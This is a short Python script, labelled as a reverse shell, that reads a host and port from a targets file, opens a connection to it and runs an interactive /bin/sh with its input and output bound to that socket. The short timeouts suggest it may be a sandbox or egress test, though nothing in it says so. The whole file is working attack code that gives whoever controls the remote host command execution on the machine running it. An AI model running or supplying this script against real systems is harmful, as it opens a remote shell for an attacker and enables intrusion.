# reverse-shell (Python): a shell whose stdin, stdout and stderr are the
# socket to the attacker.
import socket, subprocess, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

try:
    s = socket.create_connection((T["T_TCP_HOST"], int(T["T_TCP_PORT"])), timeout=3)
    subprocess.run(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s, timeout=4)
    s.close()
except (OSError, subprocess.TimeoutExpired) as e:
    print(e)
